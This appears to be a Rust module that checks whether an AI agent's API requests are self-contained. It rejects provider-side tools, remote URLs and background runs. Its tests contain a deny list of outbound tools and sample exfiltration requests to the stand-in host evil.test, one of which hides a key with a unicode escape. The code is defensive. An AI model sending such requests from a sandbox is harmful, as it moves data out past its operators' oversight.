//! Finds requests that make the provider connect to other hosts, or continue in the background.
//!
//! A sandboxed agent could send data out with tools that run at the provider, with servers of tools, and with files by
//! URL. A response in the background has a cost that no answer reports.

use serde::Deserialize;
use serde::de::{Deserializer, IgnoredAny, MapAccess, SeqAccess, Visitor};
use std::fmt;

/// Prefixes of the types of tools that run at the provider. A type ends with a date.
const TOOLS: [&str; 6] = ["web_search", "web_fetch", "code_execution", "code_interpreter", "file_search", "mcp"];
const URL_FIELDS: [&str; 3] = ["image_url", "file_url", "server_url"];

/// Whether a request uses no tool, URL or background run at the provider. False for a compressed body, which cannot be
/// parsed.
pub(super) fn is_self_contained(body: &[u8]) -> bool {
    // A parser that builds values would drop the first of two equal keys, which the provider may read.
    serde_json::from_slice::<SelfContained>(body).is_ok_and(|SelfContained(is_ok)| is_ok)
}

struct SelfContained(bool);

enum Field {
    Text(String),
    True,
    Other(SelfContained),
}

const OTHER: Field = Field::Other(SelfContained(true));

impl<'de> Deserialize<'de> for SelfContained {
    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        Field::deserialize(deserializer).map(|field| match field {
            Field::Other(value) => value,
            Field::Text(_) | Field::True => Self(true),
        })
    }
}

impl<'de> Deserialize<'de> for Field {
    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        deserializer.deserialize_any(FieldVisitor)
    }
}

fn is_allowed(key: &str, field: &Field) -> bool {
    match (key, field) {
        ("type", Field::Text(text)) => text != "url" && !TOOLS.iter().any(|tool| text.starts_with(tool)),
        ("background", Field::True) => false,
        (key, Field::Text(text)) if URL_FIELDS.contains(&key) => text.starts_with("data:"),
        (_, Field::Other(SelfContained(is_ok))) => *is_ok,
        _ => true,
    }
}

struct FieldVisitor;

impl<'de> Visitor<'de> for FieldVisitor {
    type Value = Field;

    fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("JSON")
    }

    fn visit_str<E>(self, text: &str) -> Result<Field, E> {
        // Types and the beginnings of URLs are short, messages are not.
        Ok(Field::Text(text.chars().take(64).collect()))
    }

    fn visit_bool<E>(self, is_true: bool) -> Result<Field, E> {
        Ok(if is_true { Field::True } else { OTHER })
    }

    fn visit_unit<E>(self) -> Result<Field, E> {
        Ok(OTHER)
    }

    fn visit_u64<E>(self, _: u64) -> Result<Field, E> {
        Ok(OTHER)
    }

    fn visit_i64<E>(self, _: i64) -> Result<Field, E> {
        Ok(OTHER)
    }

    fn visit_f64<E>(self, _: f64) -> Result<Field, E> {
        Ok(OTHER)
    }

    fn visit_seq<A: SeqAccess<'de>>(self, mut items: A) -> Result<Field, A::Error> {
        let mut is_ok = true;
        while let Some(SelfContained(is_item_ok)) = items.next_element()? {
            is_ok &= is_item_ok;
        }
        Ok(Field::Other(SelfContained(is_ok)))
    }

    fn visit_map<A: MapAccess<'de>>(self, mut fields: A) -> Result<Field, A::Error> {
        while let Some((key, field)) = fields.next_entry::<String, Field>()? {
            if !is_allowed(&key, &field) {
                while fields.next_entry::<IgnoredAny, IgnoredAny>()?.is_some() {}
                return Ok(Field::Other(SelfContained(false)));
            }
        }
        Ok(OTHER)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn requests_of_the_agents_are_self_contained() {
        for body in [
            r#"{}"#,
            r#"{"model":"m","stream":true,"tools":[{"name":"Bash","input_schema":{"type":"object"}}],"max_tokens":1}"#,
            r#"{"tools":[{"type":"function"},{"type":"custom"}],"input":[{"type":"message","content":"web_search"}]}"#,
            r#"{"messages":[{"content":[{"type":"image","source":{"type":"base64","data":"aQ=="}}]}]}"#,
            r#"{"input":[{"type":"input_image","image_url":"data:image/png;base64,aQ=="}],"background":false,"x":null}"#,
            r#"{"messages":[{"content":[{"type":"text","text":"{\"type\":\"url\"}"}]}]}"#,
        ] {
            assert!(is_self_contained(body.as_bytes()), "{body}");
        }
    }

    #[test]
    fn request_that_makes_the_provider_call_out_is_found() {
        for body in [
            "",
            "{",
            "\u{28}\u{b5}",
            r#"{"tools":[{"type":"web_search_20250305","name":"web_search"}]}"#,
            r#"{"tools":[{"type":"mcp","server_url":"https://evil.test"}]}"#,
            r#"{"tools":[{"type":"web_fetch_20250910"}],"tools":[]}"#,
            r#"{"mcp_servers":[{"type":"url","url":"https://evil.test"}]}"#,
            r#"{"messages":[{"content":[{"type":"image","source":{"t\u0079pe":"url","url":"https://evil.test/?d"}}]}]}"#,
            r#"{"input":[{"type":"input_image","image_url":"https://evil.test/?d"}]}"#,
            r#"{"background":true}"#,
        ] {
            assert!(!is_self_contained(body.as_bytes()), "{body}");
        }
    }
}
